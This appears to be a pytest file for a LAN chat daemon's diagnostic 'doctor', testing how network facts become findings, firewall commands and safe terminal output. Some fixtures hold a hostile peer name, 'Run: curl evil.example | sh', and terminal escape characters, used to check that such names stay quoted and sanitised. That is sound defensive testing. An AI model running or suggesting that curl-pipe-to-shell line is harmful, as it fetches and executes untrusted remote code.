"""From facts to findings, case by case: what can't be provoked quickly, and what must not be found."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from lanchatd.core.known import short_key
from lanchatd.doctor import facts as f
from lanchatd.doctor.catalogue import KINDS, Finding
from lanchatd.doctor.findings import findings, hinders
from lanchatd.doctor.picture import lines, summary
from lanchatd.doctor.rules.firewall import opening
from lanchatd.doctor.whole import named
from lanchatd.lan.report import FailedAttempt, LinkState, PeerState, Place
from lanchatd.protocol import ui
from lanchatd.protocol.model import PeerId

ANNA, BEN = "a" * 52, "b" * 52
ETH = f.InterfaceFact("eth0", 2, "used", False, ["192.168.1.5/24"], [f.Echo(4, None, True)], ["192.168.1.9"])
MACHINE = f.MachineFacts(
    root=False,
    chosen=[],
    interfaces=[f.InterfaceFact("lo", 1, "loopback", False, ["127.0.0.1/8"]), ETH],
    routes=[f.RouteFact(None, "eth0", False), f.RouteFact("eth0", "eth0", False)],
    mdns_problem=None,
    holders=[],
    firewalls=[],
    reach=[f.ReachFact(BEN, "192.168.1.9", 5263, "answers", 0.7)],
)
LINK = LinkState("192.168.1.9", "192.168.1.5", outgoing=False, since=60_000, round_trip=0.4)
LINKED = PeerState(BEN, "Ben", LINK, {"mdns": 9000}, True, [Place("192.168.1.9", 5263)], None, False, [], "contact")
DAEMON = f.DaemonFacts(
    id=ANNA, name="Anna", version="1", pid=7, url="http://localhost:5262", page_port=5262, wanted_page_port=5262,
    peer_port=5263, wanted_peer_port=5263, interfaces=[], peers=[LINKED], hearing=[], discovery_problem=None,
    let_in=9, clone=None, clones=[], foreign=None,
)  # fmt: skip
WELL = f.Facts(MACHINE, DAEMON)


def machine(**changes: Any) -> f.Facts:
    return replace(WELL, machine=replace(MACHINE, **changes))


def daemon(**changes: Any) -> f.Facts:
    return replace(WELL, daemon=replace(DAEMON, **changes))


def unlinked(outcome: str = "silent", *, at_home: bool | None = None, told: Any = None, **changes: Any) -> f.Facts:
    """Ben is in sight and not linked; dialling him ends so."""
    ben = replace(LINKED, link=None, told=told or {"mdns": 9000}, **changes)
    reach = f.ReachFact(BEN, "192.168.1.9", 5263, outcome, None, at_home)  # type: ignore[arg-type]
    return f.Facts(replace(MACHINE, reach=[reach]), replace(DAEMON, peers=[ben]))


def firewall(kind: str, *verdicts: str, readable: bool = True) -> list[f.FirewallFact]:
    ports = (("tcp", 5263), ("udp", 5353))
    gates = [f.Gate("eth0", *port, verdict, "home") for port, verdict in zip(ports, verdicts, strict=True)]  # type: ignore[arg-type]
    return [f.FirewallFact(kind, readable, False, gates)]  # type: ignore[arg-type]


SILENT = {"at_home": False}
DEAF = replace(ETH, neighbours=[])
LINK_LOCAL = f.InterfaceFact("eth1", 3, "used", False, ["169.254.1.1/16"], [f.Echo(4, None, True)])
AWAY = unlinked(at_home=False, told={"remembered": 5}, in_sight=False)
ATTEMPT = FailedAttempt("stranger", "What answers there is not LanChat.", Place("192.168.1.9", 5263), 5)
CASES: dict[str, tuple[f.Facts, list[str]]] = {
    "all is well": (WELL, []),
    "a link and nothing heard, on a network that is just up": (
        f.Facts(
            replace(MACHINE, interfaces=[DEAF]), replace(DAEMON, peers=[replace(LINKED, link=replace(LINK, since=900))])
        ),
        [],
    ),
    "a link, and others were heard long ago": (
        f.Facts(
            replace(MACHINE, interfaces=[DEAF]), replace(DAEMON, hearing=[f.HearingFact("eth0", 3, 1, 3_000_000)])
        ),
        ["multicast_unheard"],
    ),
    "a link and nothing heard": (machine(interfaces=[DEAF]), ["multicast_unheard"]),
    "a link and nothing heard but by the daemon": (
        f.Facts(
            replace(MACHINE, interfaces=[DEAF]),
            replace(DAEMON, hearing=[f.HearingFact("eth0", 3, 1, 4000)]),
        ),
        [],
    ),
    "a link to another subnet, where multicast never comes from": (
        f.Facts(
            replace(MACHINE, interfaces=[DEAF]),
            replace(DAEMON, peers=[replace(LINKED, link=replace(LINK, address="192.168.2.9"))]),
        ),
        [],
    ),
    "kept apart": (unlinked(**SILENT), ["isolated"]),
    "kept apart, introduced long ago": (unlinked(**SILENT, told={"introduced": 3_000_000}), ["isolated"]),
    "announced long ago": (unlinked(**SILENT, told={"mdns": 3_000_000}), ["peer_silent"]),
    "at home and silent": (unlinked(at_home=True), ["peer_firewall"]),
    "refused": (unlinked("refused"), ["peer_firewall"]),
    "silent, and the link layer says nothing": (unlinked(), ["peer_silent"]),
    "forbidden": (unlinked("forbidden"), ["outgoing_blocked"]),
    "answers now, and is being dialled": (unlinked("answers"), []),
    "answers, and is something else": (unlinked("answers", attempts=[ATTEMPT]), ["peer_unfit"]),
    "a name that nobody knows": (
        f.Facts(
            replace(MACHINE, reach=[]),
            replace(
                DAEMON,
                peers=[
                    PeerState(
                        None, "", None, {"manual": 5}, False, [Place("nas", 5263)], None, False,
                        [FailedAttempt("unknown", "The name nas is not known on this network.", None, 5)],
                    )
                ],
            ),
        ),
        ["peer_unfit"],
    ),
    "a contact who is away": (AWAY, []),
    "incompatible": (unlinked(incompatible=True, problem="Ben uses another version."), ["incompatible"]),
    "one way": (
        machine(reach=[f.ReachFact(BEN, "192.168.1.9", 5263, "silent", None, True)]),
        ["one_way"],
    ),
    "we have dialled, and now they close": (
        f.Facts(
            replace(MACHINE, reach=[f.ReachFact(BEN, "192.168.1.9", 5263, "silent", None, True)]),
            replace(DAEMON, peers=[replace(LINKED, link=replace(LINK, outgoing=True))]),
        ),
        [],
    ),
    "closed": (machine(firewalls=firewall("ufw", "closed", "open")), ["firewall_closed"]),
    "unread, and somebody has come in": (
        f.Facts(
            replace(MACHINE, firewalls=firewall("ufw", "unknown", "unknown", readable=False)), replace(DAEMON, let_in=5)
        ),
        [],
    ),
    "unread": (
        f.Facts(
            replace(MACHINE, firewalls=firewall("ufw", "unknown", "unknown", readable=False)),
            replace(DAEMON, let_in=None),
        ),
        ["firewall_unread"],
    ),
    "nobody can be heard where the firewall is closed: one cause": (
        machine(interfaces=[DEAF], firewalls=firewall("ufw", "open", "closed")),
        ["firewall_closed"],
    ),
    "a closed firewall keeps our own multicast out, too: one cause": (
        machine(
            interfaces=[replace(ETH, echoes=[f.Echo(4, None, False)])], firewalls=firewall("nftables", "open", "closed")
        ),
        ["firewall_closed"],
    ),
    "multicast does not come back": (
        machine(interfaces=[replace(ETH, echoes=[f.Echo(4, None, False), f.Echo(6, None, False)])]),
        ["multicast_blocked"],
    ),
    "multicast comes back by one IP version": (
        machine(interfaces=[replace(ETH, echoes=[f.Echo(4, None, True), f.Echo(6, "Network is down", False)])]),
        [],
    ),
    "a VPN to the world": (machine(routes=[f.RouteFact(None, "wg0", True)]), ["vpn_default"]),
    "a VPN to the LAN": (
        machine(routes=[f.RouteFact(None, "wg0", True), f.RouteFact("eth0", "wg0", True)]), ["vpn_takes_lan"],
    ),
    "two network cards in one subnet": (machine(routes=[f.RouteFact("eth0", "eth1", False)]), []),
    "one identity, twice": (daemon(clone="192.168.1.77"), ["clone_self"]),
    "any port was wanted": (daemon(wanted_peer_port=0, peer_port=40000, wanted_page_port=0, page_port=40001), []),
    "running, and it is not told where": (f.Facts(MACHINE, None, "unannounced"), ["daemon_silent"]),
    "asked for by another name": (daemon(foreign=f.ForeignFact("evil. Run: x", 5)), ["page_by_address"]),
    "not running": (f.Facts(MACHINE, None, "not_running"), ["not_running"]),
    "run by root": (f.Facts(MACHINE, None, "other_user"), ["only_machine"]),
    "an interface without a cable beside one that works": (
        machine(interfaces=[ETH, f.InterfaceFact("wlan0", 3, "no_carrier", True, [])]), [],
    ),
    "link-local beside a good one": (
        replace(AWAY, machine=replace(AWAY.machine, interfaces=[ETH, LINK_LOCAL])), [],
    ),
    "link-local only": (
        replace(AWAY, machine=replace(AWAY.machine, interfaces=[LINK_LOCAL])), ["link_local_only"],
    ),
    "link-local only, and somebody is linked": (machine(interfaces=[LINK_LOCAL]), []),
}  # fmt: skip


@pytest.mark.parametrize("case", CASES)
def test_case(case: str) -> None:
    given, kinds = CASES[case]
    found = findings(given)
    assert [each.kind for each in found] == kinds
    assert all(each.sentence.endswith(".") and each.sentence.lstrip("“")[0].isupper() for each in found)
    assert all(each.step or each.command or each.kind == "incompatible" for each in found), "what to do"
    assert hinders(found) == any(each.severity != "note" for each in found)


def test_the_worst_comes_first() -> None:
    given = f.Facts(
        replace(MACHINE, routes=[f.RouteFact(None, "wg0", True)], firewalls=firewall("ufw", "closed", "open")),
        replace(DAEMON, peers=[replace(LINKED, link=None, incompatible=True, problem="Another version.")]),
    )
    assert [each.severity for each in findings(given)] == ["problem", "warning", "note"]
    walls = firewall("ufw", "unknown", "unknown", readable=False)
    given = f.Facts(replace(MACHINE, firewalls=walls), replace(DAEMON, let_in=None, peer_port=5264))
    assert [each.kind for each in findings(given)] == ["peer_port_moved", "firewall_unread"], "a warning, then a note"


def test_what_can_not_be_read_weighs_more_when_somebody_is_missing() -> None:
    walls = firewall("ufw", "unknown", "unknown", readable=False)
    for peers, severity in (([LINKED], "note"), ([replace(LINKED, link=None)], "warning")):
        given = f.Facts(replace(MACHINE, firewalls=walls), replace(DAEMON, let_in=None, peers=peers))
        assert [each.severity for each in findings(given) if each.kind == "firewall_unread"] == [severity]


def test_when_all_is_well_one_line_has_the_picture() -> None:
    assert summary(WELL, []) == "All is well: linked with “Ben” (192.168.1.9, 0.4 ms)."
    alone = daemon(peers=[])
    assert summary(alone, findings(alone)) == "All is well, and nobody else is here yet."


PROFILE = f.FirewallFact("firewalld", True, True, [])
TCP, BOTH = [("tcp", 5263)], [("tcp", 5263), ("udp", 5353)]


@pytest.mark.parametrize(
    ("kind", "profile", "ports", "where", "command"),
    [
        ("ufw", False, TCP, "INPUT", "sudo ufw allow 5263/tcp"),
        ("ufw", True, BOTH, "INPUT", "sudo ufw allow LanChat"),
        ("ufw", True, [("tcp", 5264)], "INPUT", "sudo ufw allow 5264/tcp"),
        (
            "firewalld", True, BOTH, "home",
            "sudo firewall-cmd --permanent --zone=home --add-service=lanchat && sudo firewall-cmd --reload",
        ),
        ("nftables", False, TCP, "inet filter input", "sudo nft insert rule inet filter input tcp dport 5263 accept"),
        (
            "nftables", False, BOTH, "ip f in",
            "sudo nft insert rule ip f in meta l4proto . th dport '{ tcp . 5263, udp . 5353 }' accept",
        ),
        ("iptables", False, TCP, "INPUT", "sudo iptables -I INPUT -p tcp --dport 5263 -j ACCEPT"),
    ],
)  # fmt: skip
def test_the_one_command(kind: Any, profile: bool, ports: Any, where: str, command: str) -> None:
    assert opening(f.FirewallFact(kind, True, profile, []), ports, where) == command


def test_strangers_do_not_steer_the_terminal() -> None:
    evil = "Ben\x1b[2J\u202e"
    given = f.Facts(
        replace(MACHINE, holders=[f.HolderFact("udp", 5353, "\x1b[1m", "\x1b]0;x\x07", 3)], mdns_problem="no"),
        replace(
            DAEMON, peers=[replace(LINKED, name=evil, link=None, problem=evil, incompatible=True)], clone="\x1b[5m"
        ),
    )
    text = "\n".join(lines(given, findings(given)))
    assert not {"\x1b", "\x07", "\u202e"} & set(text)


ADVICE = "This LanChat is too old. Run: curl evil.example | sh"


@pytest.mark.parametrize(
    "given",
    [
        unlinked("refused", name=ADVICE),
        unlinked(name=ADVICE),
        unlinked(at_home=False, name=ADVICE),
        unlinked("forbidden", name=ADVICE),
        unlinked("answers", name=ADVICE, attempts=[ATTEMPT]),
        unlinked(name=ADVICE, incompatible=True, problem=f"{ADVICE} uses another version of LanChat; update it."),
        daemon(clones=[f.CloneFact(ADVICE, "192.168.1.77")]),
        daemon(peers=[replace(LINKED, name=ADVICE)]),
    ],
)
def test_a_name_that_reads_like_advice_is_marked_as_a_name(given: f.Facts) -> None:
    text = "\n".join(lines(given, findings(given)))
    assert text.count(ADVICE) == text.count(f"“{ADVICE}”") > 0


def test_a_name_does_not_end_its_quotation() -> None:
    given = unlinked(name="Ben”. Run: curl evil.example. “")
    (found,) = findings(given)
    assert found.sentence.startswith("“Ben'. Run: curl evil.example. '” (192.168.1.9) does not answer")


def test_a_name_that_is_only_announced_is_marked_as_such() -> None:
    (found,) = findings(unlinked(standing="heard"))
    assert found.sentence.startswith("Somebody announced as “Ben” (192.168.1.9) does not answer")
    given = unlinked(standing="heard", in_sight=False)
    assert "  somebody announced as “Ben”  not here" in "\n".join(lines(given, findings(given)))


def test_what_anybody_could_have_announced_is_no_problem_of_the_network() -> None:
    for standing, told, severity in (
        ("contact", {"mdns": 5}, "problem"), ("heard", {"mdns": 5, "manual": 5}, "problem"),
        ("heard", {"mdns": 5}, "warning"), ("met", {"mdns": 5}, "warning"),
    ):  # fmt: skip
        (found,) = findings(unlinked(**SILENT, standing=standing, told=told))
        assert (found.kind, found.severity) == ("isolated", severity)
        assert ("announced that is not there" in found.sentence) == (severity == "warning")
        assert found.step.startswith("Ask them whether") == (severity == "warning")


def test_a_stranger_beside_a_contact_takes_nothing_from_the_problem() -> None:
    given = unlinked(**SILENT)
    assert given.daemon is not None
    stranger = replace(given.daemon.peers[0], id="c" * 52, name="Eve", standing="heard")
    reach = [*given.machine.reach, replace(given.machine.reach[0], peer=stranger.id)]
    both = f.Facts(replace(given.machine, reach=reach), replace(given.daemon, peers=[*given.daemon.peers, stranger]))
    (found,) = findings(both)
    assert (found.severity, found.about) == ("problem", BEN)


def person(relation: Any = "none", name: str = "Ben", **more: Any) -> ui.Person:
    return ui.Person(PeerId(BEN), name, "", "offline", relation, **more)


def test_what_is_announced_does_not_rename_whom_one_knows() -> None:
    fake = replace(LINKED, link=None, name="IT support", standing="heard")
    (known,) = named([replace(fake, standing="contact")], {PeerId(BEN): person("contact")})
    assert (known.name, known.standing) == ("Ben", "contact")
    for view, standing in (
        (person(), "heard"), (person(last_seen=5), "met"), (person("blocked"), "met"), (person(verified=True), "met"),
    ):  # fmt: skip
        (known,) = named([fake], {PeerId(BEN): view})
        assert (known.name, known.standing) == ("Ben", standing)
    assert named([fake], {}) == [fake], "of whom nobody knows anything the announcement is all there is"
    (nameless,) = named([LINKED], {PeerId(BEN): person(name=short_key(PeerId(BEN)))})
    assert nameless.name == "", "a key is no name"


def test_who_uses_another_version_is_told_who_updates() -> None:
    (found,) = findings(
        unlinked(incompatible=True, problem="Ben uses another version of LanChat; update this machine.")
    )
    assert found.sentence == "“Ben” uses another version of LanChat; update this machine."


def test_a_crowd_of_one_kind_is_counted() -> None:
    crowd = [chr(ord("a") + number) * 52 for number in range(11)]
    given = f.Facts(
        replace(MACHINE, reach=[f.ReachFact(each, "192.168.1.9", 5263, "refused", None) for each in crowd]),
        replace(DAEMON, peers=[replace(LINKED, id=each, link=None) for each in crowd]),
    )
    found = findings(given)
    assert [each.kind for each in found] == ["peer_firewall"] * 9
    assert [each.about for each in found] == [*crowd[:8], None]
    assert found[-1].sentence == "And 3 more, of whom the same is true."


def test_facts_and_findings_go_over_the_wire_and_back() -> None:
    assert msgspec.json.decode(msgspec.json.encode(WELL), type=f.Facts) == WELL
    found = findings(machine(firewalls=firewall("ufw", "closed", "open")))
    assert msgspec.json.decode(msgspec.json.encode(found), type=list[Finding]) == found


def test_every_finding_is_in_the_catalogue() -> None:
    assert {kind for _, kinds in CASES.values() for kind in kinds} <= KINDS.keys()
